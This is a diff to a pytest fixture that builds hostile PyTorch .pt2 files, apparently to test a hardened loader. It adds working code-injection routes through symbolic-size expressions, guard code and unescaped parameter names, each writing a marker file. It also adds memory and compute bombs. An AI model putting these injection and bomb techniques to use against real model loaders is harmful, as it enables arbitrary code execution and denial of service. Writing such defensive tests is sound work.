@@ -176,11 +176,120 @@ def overlong_weight(src: Path, dst: Path) -> Path:
     return rewrite(src, dst, edit)
 
 
+CODE_MARKER = "code-ran"  # beside the hostile files: the exploits below write it when they run
+
+
+def _payload(marker: Path) -> str:
+    return f"open({str(marker)!r}, 'w').write('pwned')"
+
+
+def _edit_program(src: Path, dst: Path, change: Callable[[dict], None]) -> Path:
+    def edit(name: str, data: bytes) -> bytes:
+        if not name.endswith("models/model.json"):
+            return data
+        program = json.loads(data)
+        change(program)
+        return json.dumps(program).encode()
+
+    return rewrite(src, dst, edit)
+
+
+def dynamic_program(path: Path) -> Path:
+    """A small program with a dynamic batch, so its JSON carries symbolic-size expressions."""
+    net = nn.Sequential(nn.Linear(16, 16), nn.ReLU())
+    batch = torch.export.Dim("batch", min=2, max=1024)
+    program = torch.export.export(net, (torch.randn(4, 16),), dynamic_shapes=({0: batch},))
+    return save_program(program, path)
+
+
+def expression_exec(src: Path, dst: Path, marker: Path) -> Path:
+    """Route 1: an `expr_str` that runs code in sympify's eval and still evaluates to the size."""
+
+    def change(program: dict) -> None:
+        values = program["graph_module"]["graph"]["tensor_values"]
+        for meta in values.values():
+            for size in meta["sizes"]:
+                if "as_expr" in size:
+                    expr = size["as_expr"]["expr_str"]
+                    size["as_expr"]["expr_str"] = f"(exec({_payload(marker)!r}) or 0)*0 + {expr}"
+                    return
+        raise AssertionError("the program has no symbolic size to plant in")
+
+    return _edit_program(src, dst, change)
+
+
+def guard_exec(src: Path, dst: Path, marker: Path) -> Path:
+    """Route 2: a guard whose `#` and newlines leave the generated guard function's assert."""
+    guard = f'True #\n, "x")\n  {_payload(marker)}\n  torch._assert(True'
+    return _edit_program(src, dst, lambda p: p["guards_code"].append(guard))
+
+
+def name_exec(src: Path, dst: Path, marker: Path) -> Path:
+    """Route 3: a parameter name that FX writes unescaped into `getattr(self, "...")`."""
+    code = ", ".join(str(b) for b in _payload(marker).encode())
+    evil = f'w", exec(bytes(({code},)))) or getattr(self, "w'
+
+    def edit(name: str, data: bytes) -> bytes:
+        if name.endswith("models/model.json"):
+            program = json.loads(data)
+            for spec in program["graph_module"]["signature"]["input_specs"]:
+                if spec.get("parameter", {}).get("parameter_name") == "0.weight":
+                    spec["parameter"]["parameter_name"] = evil
+            return json.dumps(program).encode()
+        if name.endswith("model_weights_config.json"):
+            config = json.loads(data)
+            config["config"][evil] = config["config"].pop("0.weight")
+            return json.dumps(config).encode()
+        return data
+
+    return rewrite(src, dst, edit)
+
+
+def zeros_bomb(dst: Path) -> Path:
+    """No code at all: one ATen call that allocates 4 TiB."""
+
+    class Zeros(nn.Module):
+        def forward(self, x: torch.Tensor) -> torch.Tensor:
+            return torch.zeros(2**40).sum() + x
+
+    return save_program(export_module(Zeros(), (torch.ones(1),)), dst)
+
+
+def matmul_chain(dst: Path) -> Path:
+    """Forty 16k x 16k matmuls of a tiny input broadcast up: petaFLOPs per call."""
+
+    class Chain(nn.Module):
+        def forward(self, x: torch.Tensor) -> torch.Tensor:
+            y = x.expand(16384, 16384)
+            for _ in range(40):
+                y = y @ y
+            return y.sum()
+
+    return save_program(export_module(Chain(), (torch.ones(1, 1),)), dst)
+
+
+def strided_weight(src: Path, dst: Path) -> Path:
+    """A weight of [2^31, 2^31] elements read from its 4 bytes through zero strides."""
+
+    def edit(name: str, data: bytes) -> bytes:
+        if not name.endswith("model_weights_config.json"):
+            return data
+        config = json.loads(data)
+        meta = config["config"]["0.weight"]["tensor_meta"]
+        meta["sizes"] = [{"as_int": 2**31}, {"as_int": 2**31}]
+        meta["strides"] = [{"as_int": 0}, {"as_int": 0}]
+        return json.dumps(config).encode()
+
+    return rewrite(src, dst, edit)
+
+
 @pytest.fixture(scope="session")
 def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
     """Every crafted file, built once per session (the 4 GiB bomb takes a few seconds)."""
     root = tmp_path_factory.mktemp("hostile")
     good = good_program(root / "good.pt2")
+    dynamic = dynamic_program(root / "dynamic.pt2")
+    marker = root / CODE_MARKER
     victim = root / "victim.bin"
     victim.write_bytes(b"SECRET-HOST-FILE")
     return {
@@ -195,4 +304,10 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
         "pickled_inputs": pickled_sample_inputs(good, root / "pickled.pt2", root / "pickle-ran"),
         "resized_weight": resized_weight(good, root / "resized.pt2"),
         "overlong_weight": overlong_weight(good, root / "overlong.pt2"),
+        "expression_exec": expression_exec(dynamic, root / "expr.pt2", marker),
+        "guard_exec": guard_exec(dynamic, root / "guard.pt2", marker),
+        "name_exec": name_exec(good, root / "name.pt2", marker),
+        "zeros_bomb": zeros_bomb(root / "zeros.pt2"),
+        "matmul_chain": matmul_chain(root / "chain.pt2"),
+        "strided_weight": strided_weight(good, root / "strided.pt2"),
     }
